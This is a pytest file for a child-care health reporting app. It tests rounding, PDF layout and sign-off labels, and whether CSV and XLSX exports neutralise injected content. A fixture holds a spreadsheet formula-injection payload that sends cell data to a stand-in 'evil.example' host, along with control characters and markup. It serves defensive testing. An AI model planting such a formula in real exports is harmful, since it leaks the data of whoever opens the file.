"""Presentation a bureau can sign, and exports that cannot be turned against their reader."""

import io
import subprocess

import pytest
from openpyxl import load_workbook

from mch_link.models import Centre, Region
from mch_link.rates import percent_text
from reports import render as renderers
from reports.rows import completion_rows
from tests.reports.conftest import AS_OF

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


@pytest.mark.parametrize("part, whole, shown", [
    (92449, 100000, "92.4%"), (99949, 100000, "99.9%"), (99951, 100000, "99.9%"), (1, 3, "33.3%"),
    (0, 0, "—"), (453, 490, "92.4%"), (13, 14, "92.9%"), (1, 1, "100.0%"), (0, 7, "0.0%"), (1, 2000, "0.1%"),
])
def test_one_rounding_rule(part, whole, shown):
    assert percent_text(part, whole) == shown


def test_the_pdf_tables_fit_the_page_and_it_ends_with_the_sign_off(case):
    import pdfplumber

    report = completion_rows(region=case.yc, period="2026Q1", as_of=AS_OF)
    data = renderers.render_pdf(report)
    with pdfplumber.open(io.BytesIO(data)) as pdf:
        for page in pdf.pages:
            for table in page.find_tables():
                x0, top, x1, bottom = table.bbox
                assert 0 <= x0 and x1 <= page.width - 18 * 72 / 25.4 + 1, (page.page_number, table.bbox)
            for rect in page.rects:
                assert rect["x1"] <= page.width - 18 * 72 / 25.4 + 1
    text = subprocess.run(["pdftotext", "-", "-"], input=data, capture_output=True, check=True).stdout.decode()
    for label in ("填报单位", "负责人", "审核人", "日期", "盖章处"):
        assert label in text
    assert "MIN_DAYS_IN_FORCE" not in text and "GRACE_DAYS" not in text
    assert "宽限期" in text


@pytest.fixture
def hostile(case):
    Centre.objects.filter(pk=case.rice.pk).update(name=HOSTILE + "\x0b\x1b")  # NUL: refused by PostgreSQL itself
    Region.objects.filter(pk=case.yc.pk).update(name="越城<b>区</b><link href='x'>")
    return completion_rows(region=case.city, period="2026Q1", as_of=AS_OF)


def test_no_formula_cells_in_the_xlsx(hostile):
    book = load_workbook(io.BytesIO(renderers.render_xlsx(hostile)))
    seen = False
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert "\x1b" not in cell.value and "\x0b" not in cell.value
                    seen = seen or cell.value == "'" + HOSTILE
    assert seen


def test_the_csv_is_neutralised(hostile):
    text = renderers.render_csv(hostile).decode("utf-8-sig")
    assert "'" + HOSTILE.replace('"', '""') in text
    assert ',"=HYPERLINK' not in text and "\n=HYPERLINK" not in text
    assert "\x1b" not in text and "\x0b" not in text


def test_the_pdf_renders_a_name_with_markup(case):
    Region.objects.filter(pk=case.yc.pk).update(name="越城<b>区</b><link href='x'>&")
    Centre.objects.filter(pk=case.rice.pk).update(name="稻香\x07托育<br/>")
    data = renderers.render_pdf(completion_rows(region=case.yc, period="2026Q1", as_of=AS_OF))
    text = subprocess.run(["pdftotext", "-", "-"], input=data, capture_output=True, check=True).stdout.decode()
    assert "越城<b>区</b>" in text


def test_a_period_ahead_is_projected_from_the_contracts_signed_so_far(case):
    from tests.reports.conftest import sign

    D = AS_OF.__class__
    sign(case.tashan_chc, case.rice, start=D(2027, 1, 1), end=D(2027, 12, 31))
    report = completion_rows(region=case.city, period="2027Q1", as_of=D(2026, 11, 29))
    assert report.projected and report.coverage_day == D(2027, 1, 1)
    assert report.signed_guidance["numerator"] >= 1  # not 0/…: the 2027 contract counts on its first day
    assert report.as_json()["projected"] is True
    assert "预计" in renderers.render_csv(report).decode("utf-8-sig")
    assert not completion_rows(region=case.city, period="2026Q1", as_of=AS_OF).projected
